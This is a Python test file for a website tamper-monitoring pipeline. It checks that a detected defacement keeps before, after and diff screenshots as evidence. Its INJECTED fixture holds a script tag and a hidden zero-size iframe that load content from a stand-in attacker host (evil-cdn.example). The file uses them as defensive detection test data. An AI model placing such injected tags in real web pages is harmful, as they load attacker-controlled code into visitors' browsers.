"""An incident on a rendered capture keeps before, after and diff screenshots as evidence."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import UTC, datetime

from PIL import Image
from pipeline_helpers import Site, make_services

from tamperwatch.capture.base import FetchRequest
from tamperwatch.models import Capture, IncidentKind, Status, Target
from tamperwatch.pipeline.check import Pipeline

INJECTED = (
    '<script src="https://evil-cdn.example/x.js"></script>'
    '<iframe src="https://evil-cdn.example/f" style="display:none" width="0" height="0"></iframe>'
)


def png(colour: tuple[int, int, int], box: tuple[int, int, int, int] | None = None) -> bytes:
    image = Image.new("RGB", (320, 200), (255, 255, 255))
    if box is not None:
        image.paste(colour, box)
    out = io.BytesIO()
    image.save(out, format="PNG")
    return out.getvalue()


async def test_defacement_incident_keeps_before_after_and_diff_screenshots() -> None:
    site = Site()
    services, archive, _ = make_services(site)

    def with_screenshot(request: FetchRequest) -> Capture:
        reply = site(request)
        assert isinstance(reply, tuple) and len(reply) == 2
        status, body = reply
        base = Capture(
            url=request.url,
            fetched_at=datetime.now(UTC),
            final_url=request.url,
            status=status,
            headers=(("content-type", "text/html"),),
            body=body,
        )
        shot = png((0, 0, 0), (0, 0, 320, 200)) if site.extra else png((10, 60, 200), (0, 0, 320, 40))
        return replace(base, screenshot=shot)

    services.fetcher.handler = with_screenshot  # type: ignore[attr-defined]
    target = await archive.add_target(Target(url="https://riverton.example/"))
    pipeline = Pipeline()
    for _ in range(services.engine.learn_captures + 1):
        await pipeline.run(target, services)
    site.extra = INJECTED
    ctx = await pipeline.run(target, services)
    assert ctx.verdict is not None and ctx.verdict.status is Status.DEFACED
    [incident] = [i for i in await archive.list_incidents() if i.kind is IncidentKind.DEFACED]
    evidence = incident.evidence
    for key in ("screenshot_before", "screenshot_after", "screenshot_diff"):
        stored = await archive.load_body(evidence[key])
        assert stored is not None and stored.startswith(b"\x89PNG"), key
        assert evidence[key] in evidence["blobs"], "evidence blobs are protected from retention"
    assert evidence["changed_regions"], "the diff marks where the page changed"
